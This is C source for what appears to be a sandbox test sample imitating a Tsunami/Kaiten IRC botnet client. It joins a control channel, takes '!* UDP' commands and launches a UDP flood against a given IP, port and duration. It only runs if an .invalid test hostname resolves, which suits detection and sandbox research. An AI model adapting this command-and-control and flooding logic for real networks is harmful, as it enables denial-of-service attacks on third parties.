/* A Tsunami/Kaiten-like IRC test bot (see bot.h): it resolves its IRC server under .invalid,
 * registers, joins #mitsu, answers PING, and on "!* UDP <ip> <port> <secs>" floods the target. */
#include "bot.h"

static const char *const floods[] = {"TSUNAMI", "PAN", "UDP", "UNKNOWN", "GETSPOOFS", "KILLALL"};

int main(void)
{
	struct in_addr srv;
	if (bot_resolve("irc.mitsu-test.invalid", &srv) != 0)
		return 0; /* not in the sandbox */
	int fd = bot_connect(srv, 6667);
	if (fd < 0)
		return 0;
	char nick[32];
	snprintf(nick, sizeof(nick), "mitsu%04d", (int)(getpid() % 10000));
	dprintf(fd, "NICK %s\r\n", nick);
	dprintf(fd, "USER %s localhost localhost :%s\r\n", nick, nick);
	char line[1024];
	int joined = 0;
	while (bot_readline(fd, line, sizeof(line)) >= 0) {
		if (strncmp(line, "PING", 4) == 0) {
			dprintf(fd, "PONG %s\r\n", line + 5);
			continue;
		}
		if (!joined && (strstr(line, " 001 ") || strstr(line, " 376 "))) {
			dprintf(fd, "JOIN %s\r\n", "#mitsu");
			joined = 1;
			continue;
		}
		const char *m = strstr(line, "PRIVMSG ");
		const char *c = m ? strstr(m, ":!* ") : NULL;
		if (!c)
			continue;
		c += 4;
		char cmd[16], ip[32];
		int port = 0, secs = 0;
		if (sscanf(c, "%15s %31s %d %d", cmd, ip, &port, &secs) == 4 &&
		    strcmp(cmd, floods[2]) == 0) {
			struct in_addr t;
			t.s_addr = inet_addr(ip);
			long sent = bot_udp_flood(t, port, secs);
			dprintf(fd, "NOTICE %s :UDP flood of %s:%d done, %ld packets\r\n", "#mitsu",
				ip, port, sent);
#ifndef STAY
			break;
#endif
		} else {
			dprintf(fd, "NOTICE %s :unknown command %s (I know %s %s %s %s %s %s)\r\n",
				"#mitsu", cmd, floods[0], floods[1], floods[2], floods[3],
				floods[4], floods[5]);
		}
	}
	dprintf(fd, "QUIT :bye\r\n");
	close(fd);
	bot_stay();
	return 0;
}
